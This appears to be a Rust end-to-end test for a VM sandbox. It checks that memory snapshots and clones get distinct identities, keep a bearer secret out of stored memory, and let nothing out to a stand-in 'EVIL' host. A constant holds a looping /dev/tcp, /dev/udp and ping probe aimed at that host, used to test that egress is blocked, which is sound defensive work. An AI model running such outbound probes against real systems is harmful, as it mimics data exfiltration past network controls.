//! Clones of a running VM with its memory: they go on where it was, side by side with it, as other machines; and nothing leaves
//! before a clone has its gate and its own identity.
#![expect(clippy::unwrap_used, reason = "a test's helper fails by panicking")]

use serde_json::{Value, json};
use std::{
    fs,
    io::Read as _,
    path::Path,
    thread,
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};
use tapgate_e2e::{
    World,
    bucket::Bucket,
    daemon::{Daemon, Driver, Settings},
    demo::Stage,
    sites, ssh,
};

const SECRET: &str = "sk-live-4Zk9ThatNoMemoryHolds";
/// How many times a state is looked at, ten times a second.
const TRIES: usize = 1200;
/// Tries to get out over and over, from the addresses of the machine that it was started in; and counts in memory.
const RUNNING: &str = "systemd-run -q --unit=probe bash -c 'while :; do echo x > /dev/udp/EVIL/7; \
    timeout 0.3 bash -c \"echo x > /dev/tcp/EVIL/80\"; ping -c1 -W1 EVIL; sleep 0.5; done'; \
    systemd-run -q --unit=count bash -c 'n=0; while sleep 0.2; do echo $((++n)) > /run/count; done'; \
    while [ ! -e /run/count ]; do sleep 0.1; done";

fn becomes(stage: &Stage<'_>, path: &str, field: &str, wanted: &[&str]) -> Value {
    let mut last = Value::Null;
    for _ in 0..TRIES {
        last = stage.api().get(path).unwrap().expect(200).unwrap();
        let shown = if last["data"].is_object() { &last["data"][field] } else { &last[field] };
        if wanted.iter().any(|word| shown == word) {
            return last;
        }
        thread::sleep(Duration::from_millis(100));
    }
    panic!("{path} never becomes {wanted:?}: {last}");
}

fn begin(stage: &Stage<'_>, vm: &str) -> String {
    let body = json!({"label": "warm", "kind": "memory"});
    let made = stage.api().post(&format!("/v1/vms/{vm}/snapshots"), &body).unwrap().expect(201).unwrap();
    assert_eq!((&made["data"]["status"], &made["data"]["kind"]), (&json!("pending"), &json!("memory")));
    made["data"]["id"].as_str().unwrap().to_owned()
}

fn ready(stage: &Stage<'_>, snapshot: &str) -> Value {
    let found = becomes(stage, &format!("/v1/snapshots/{snapshot}"), "status", &["ready", "failed"]);
    assert_eq!(found["data"]["status"], "ready", "{found}");
    found["data"].clone()
}

fn clone(stage: &Stage<'_>, name: &str, snapshot: &str) -> String {
    let body = json!({"name": name, "public_key": ssh::key(stage.world()).unwrap(), "snapshot_id": snapshot});
    let vm = stage.api().post("/v1/vms", &body).unwrap().expect(201).unwrap();
    vm["id"].as_str().unwrap().to_owned()
}

/// What each machine has for itself.
fn identity(stage: &Stage<'_>) -> Vec<String> {
    let script = "cat /etc/machine-id; cat /etc/ssh/ssh_host_ed25519_key.pub; hostname; \
                  openssl x509 -noout -fingerprint -in /usr/local/share/ca-certificates/tapgate.crt; \
                  ip -4 -o addr show dev eth0 | awk '{print $4}'; cat /sys/class/net/eth0/address; \
                  ssh-keyscan -t ed25519 127.0.0.1 2>/dev/null | cut -d' ' -f3";
    stage.guest().unwrap().expect(script).unwrap().lines().map(str::to_owned).collect()
}

/// What a clone has of its parent.
fn moment(stage: &Stage<'_>) -> String {
    let script = "cat /proc/sys/kernel/random/boot_id; systemctl show -P MainPID count";
    stage.guest().unwrap().expect(script).unwrap()
}

fn number(stage: &Stage<'_>, command: &str) -> i64 {
    stage.guest().unwrap().expect(command).unwrap().parse().unwrap()
}

/// How far the guest's clock is off, in seconds, beyond the time that asking takes.
fn skew(stage: &Stage<'_>) -> i64 {
    let now = || i64::try_from(SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs()).unwrap();
    let (before, guest, after) = (now(), number(stage, "date +%s"), now());
    (before - guest).max(guest - after).max(0)
}

fn counters(stage: &Stage<'_>, vm: &str) -> Value {
    stage.api().get(&format!("/v1/vms/{vm}/egress/counters")).unwrap().expect(200).unwrap()
}

/// Frames that were dropped for not being from the VM's own addresses.
fn spoofed(counters: &Value) -> u64 {
    counters["dropped"]["spoofed"].as_u64().unwrap_or(0)
}

/// A request with the secret, through the VM's own authority.
fn uses_the_secret(stage: &Stage<'_>) -> bool {
    let journal = stage.world().journal().mark();
    let script = format!(
        ". /etc/profile.d/tapgate.sh; curl -sS -m 30 -H \"Authorization: Bearer $TOKEN\" https://{}/; true",
        sites::API.name
    );
    let done = stage.sh(&script).unwrap();
    done.out.contains("hello from") && !journal.mentioning(SECRET).unwrap().is_empty()
}

/// How often the octets are found in what the file unpacks to, `layers` times.
fn found(file: &Path, layers: u32, wanted: &str) -> usize {
    let mut reader: Box<dyn std::io::Read> = Box::new(fs::File::open(file).unwrap());
    for _ in 0..layers {
        reader = Box::new(zstd::stream::read::Decoder::new(reader).unwrap());
    }
    let finder = memchr::memmem::Finder::new(wanted);
    let (mut count, mut kept, mut buffer) = (0, Vec::new(), vec![0; 1 << 20]);
    loop {
        let n = reader.read(&mut buffer).unwrap();
        if n == 0 {
            return count;
        }
        kept.extend_from_slice(&buffer[..n]);
        count += finder.find_iter(&kept).count();
        kept.drain(..kept.len().saturating_sub(wanted.len() - 1));
    }
}

#[test]
fn real_vm_two_clones_of_one_parent_are_other_machines() {
    let world = World::new().unwrap();
    let settings = Settings::of(Driver::Qemu).unwrap();
    let bucket = Bucket::start(&world).unwrap();
    let daemon = Daemon::start_with(&world, settings, &bucket.lines(), &Bucket::environment()).unwrap();
    let mut stage = Stage::new(&world, daemon).unwrap();
    stage.api().rule("host", sites::API.name).unwrap();
    let placeholder = stage.api().secret("token", "TOKEN", SECRET, &[sites::API.name]).unwrap();
    let began = Instant::now();
    stage.boot("parent").unwrap();
    println!("the parent was ready after {:?}", began.elapsed());
    let parent = stage.vm().unwrap().to_owned();
    assert!(uses_the_secret(&stage));
    let counted = world.counters().unwrap();
    stage.guest().unwrap().expect(&RUNNING.replace("EVIL", &sites::EVIL.v4.to_string())).unwrap();
    let mut all = vec![identity(&stage)];
    let (before, count) = (moment(&stage), number(&stage, "cat /run/count"));

    // The daemon dies while it is taken and again while it is stored.
    let snapshot = begin(&stage, &parent);
    stage.guest().unwrap().hang_up();
    thread::sleep(Duration::from_millis(400));
    for _ in 0..2 {
        let path = format!("/v1/snapshots/{snapshot}");
        let now = becomes(&stage, &path, "status", &["pending", "uploading", "ready"]);
        println!("the daemon is killed while the snapshot is {}", now["data"]["status"]);
        stage.daemon_mut().kill().unwrap();
        stage.daemon_mut().start_again().unwrap();
        thread::sleep(Duration::from_millis(700));
    }
    let taken = ready(&stage, &snapshot);
    println!("{taken}");
    stage.api().wait_ready(&parent).unwrap();
    stage.enter(parent.clone()).unwrap();
    assert_eq!(before, moment(&stage), "the parent was booted");
    assert!(number(&stage, "cat /run/count") > count, "the parent goes on");

    let stored = || bucket.keys().unwrap().len();
    assert_eq!(stored(), 2, "a disk and a memory");
    let name = format!("{snapshot}.memory.zst");
    assert_eq!(bucket.open_uploads().unwrap().len(), 0, "an upload that was cut off is left");
    let file = world.folder().join(&name);
    bucket.fetch(&format!("one/two/snapshots/{name}"), &file).unwrap();
    assert_eq!(fs::metadata(&file).unwrap().len(), taken["memory_size_bytes"].as_u64().unwrap());
    assert_eq!(found(&file, 2, SECRET), 0, "the memory holds a secret");
    assert_ne!(found(&file, 2, &placeholder), 0, "the search finds nothing at all");

    println!("the parent's clock is {} s off", skew(&stage));
    let mut clones: Vec<String> = Vec::new();
    for name in ["clone-one", "clone-two"] {
        let began = Instant::now();
        let vm = clone(&stage, name, &snapshot);
        stage.api().wait_ready(&vm).unwrap();
        println!("{name} was ready after {:?}", began.elapsed());
        stage.enter(vm.clone()).unwrap();
        let clock = "cat /sys/devices/system/clocksource/clocksource0/current_clocksource; dmesg | grep -i clocksource | tail -n 3";
        println!("{} s off: {}", skew(&stage), stage.guest().unwrap().expect(clock).unwrap());
        clones.push(vm);
    }
    // A link that comes up asks whether its own IPv6 address is taken, and has none yet to ask from (RFC 4862, 5.4.2). That is
    // all that any machine says as nobody.
    let own = counters(&stage, &parent);
    let by_itself = spoofed(&own);
    println!("the parent: {own}");
    for vm in &clones {
        stage.enter(vm.clone()).unwrap();
        assert_eq!(before, moment(&stage), "a clone was booted");
        let now = number(&stage, "cat /run/count");
        thread::sleep(Duration::from_secs(1));
        assert!(
            now >= count && number(&stage, "cat /run/count") > now,
            "what ran in the parent stands still"
        );
        all.push(identity(&stage));
        assert!(uses_the_secret(&stage), "a clone cannot use the account's secret");
        let counters = counters(&stage, vm);
        println!("{counters}");
        assert!(counters["packets_out"].as_u64().is_some_and(|packets| packets > 0));
        assert!(spoofed(&counters) <= by_itself, "it spoke as its parent: {counters}");
        let events = stage.api().audit(vm, &format!("&host={}", sites::API.name)).unwrap();
        assert!(events.iter().any(|event| event["vm_id"] == **vm), "{events:?}");
    }
    for (at, one) in all.iter().enumerate() {
        assert_eq!(one.len(), 7, "{one:?}");
        assert_eq!(one[1].split(' ').nth(1), Some(one[6].as_str()), "the SSH server shows another key");
        for other in &all[at + 1..] {
            for (mine, its) in one.iter().zip(other) {
                assert_ne!(mine, its, "two machines share an identity");
            }
        }
    }
    // All three at once, none of them anywhere it may not be.
    for vm in clones.iter().chain([&parent]) {
        assert_eq!(becomes(&stage, &format!("/v1/vms/{vm}"), "status_detail", &["ready"])["id"], **vm);
    }
    assert_eq!(world.counters().unwrap().since(&counted).of(sites::EVIL), 0, "something got out");
    for vm in &clones {
        stage.api().post(&format!("/v1/vms/{vm}/stop"), &json!({})).unwrap().expect(200).unwrap();
    }

    // Whose guest does not answer never comes up: it would speak as its parent.
    stage.enter(parent.clone()).unwrap();
    stage.guest().unwrap().expect("systemctl stop tapgate-guest-agent.service").unwrap();
    let mute = begin(&stage, &parent);
    ready(&stage, &mute);
    // As many as machines are started at a time: however long they keep the host waiting, others are started meanwhile.
    let many = thread::available_parallelism().map_or(2, usize::from).clamp(2, 4);
    let mutes: Vec<String> = (0..many).map(|n| clone(&stage, &format!("mute-{n}"), &mute)).collect();
    for vm in &mutes {
        becomes(&stage, &format!("/v1/vms/{vm}"), "status_detail", &["starting"]);
    }
    let key = ssh::key(stage.world()).unwrap();
    let body = json!({"name": "another", "public_key": key, "memory_mib": 256});
    let another = stage.api().post("/v1/vms", &body).unwrap().expect(201).unwrap();
    let another = another["id"].as_str().unwrap().to_owned();
    becomes(&stage, &format!("/v1/vms/{another}"), "status_detail", &["running", "ready"]);
    for vm in &mutes {
        becomes(&stage, &format!("/v1/vms/{vm}"), "status_detail", &["starting"]);
    }
    for vm in &mutes {
        let path = format!("/v1/vms/{vm}");
        let failed = becomes(&stage, &path, "status_detail", &["failed", "running", "ready"]);
        assert!(failed["failure_reason"].as_str().unwrap_or_default().contains("agent"), "{failed}");
        assert!(stage.daemon().vmm(vm).is_none(), "its VMM is left");
    }

    for snapshot in [&snapshot, &mute] {
        stage.api().delete(&format!("/v1/snapshots/{snapshot}")).unwrap().expect(204).unwrap();
    }
    for _ in 0..TRIES {
        if stored() == 0 {
            break;
        }
        thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(stored(), 0, "deleted snapshots' bytes are left");
    for line in stage.daemon().log().lines() {
        if ["snapshot.taken", "memory_taken", "vm.started"].iter().any(|word| line.contains(word)) {
            println!("{line}");
        }
    }
}
